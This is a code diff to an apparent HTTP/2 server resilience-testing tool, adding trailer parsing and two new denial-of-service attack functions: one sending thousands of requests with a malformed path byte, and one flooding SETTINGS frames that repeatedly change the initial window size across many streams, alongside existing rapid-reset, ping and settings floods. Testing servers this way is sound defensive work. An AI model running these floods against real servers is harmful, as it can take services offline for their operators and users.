@@ -255,6 +255,7 @@ class Http2:
         )
         self.data: dict[int, bytearray] = {}
         self.statuses: dict[int, int] = {}
+        self.trailers: dict[int, list[tuple[bytes, bytes]]] = {}
         self.over: dict[int, h2.events.Event] = {}
         self.went_away: int | None = None
         self.takes_data = True
@@ -315,6 +316,8 @@ class Http2:
                     self.connection.acknowledge_received_data(
                         event.flow_controlled_length, stream_id
                     )
+            case h2.events.TrailersReceived(stream_id=stream_id, headers=headers):
+                self.trailers[stream_id] = [(bytes(name), bytes(value)) for name, value in headers]
             case h2.events.StreamEnded(stream_id=stream_id):
                 self.over.setdefault(stream_id, event)
             case h2.events.StreamReset(stream_id=stream_id):
@@ -386,6 +389,31 @@ async def makes_the_server_reset(target: Target) -> int | None:
                     frame(WINDOW_UPDATE, struct.pack(">I", 2**31 - 1), stream_id=stream_id)
                 )
     return client.went_away
+
+
+async def asks_in_bad_words(target: Target) -> int | None:
+    """Requests that are refused at once, so that no app ever runs."""
+    async with speaking_h2(target) as client, trio.open_nursery() as nursery:
+        nursery.start_soon(client.to_the_end)
+        with suppress(*GONE, ProtocolError):
+            for _ in range(2_000):
+                client.open(b"/\xff")
+                await client.flush()
+    return client.went_away
+
+
+async def shifts_all_windows(target: Target) -> int | None:
+    """One setting has every stream looked at anew."""
+    async with speaking_h2(target, {SettingCodes.INITIAL_WINDOW_SIZE: 0}) as client:
+        client.takes_data = False
+        for _ in range(90):
+            client.open(target.path.encode())
+        await client.flush()
+        sizes = b"".join(
+            frame(SETTINGS, struct.pack(">HI", SettingCodes.INITIAL_WINDOW_SIZE, size))
+            for size in (1, 0)
+        )
+        return await flood(client, sizes, times=2_000)
 
 
 async def floods_pings(target: Target) -> int | None:
@@ -588,6 +616,8 @@ ATTACKS: dict[str, Attack] = {
         connects_and_goes,
         resets_rapidly,
         makes_the_server_reset,
+        asks_in_bad_words,
+        shifts_all_windows,
         floods_pings,
         floods_settings,
         floods_priorities,
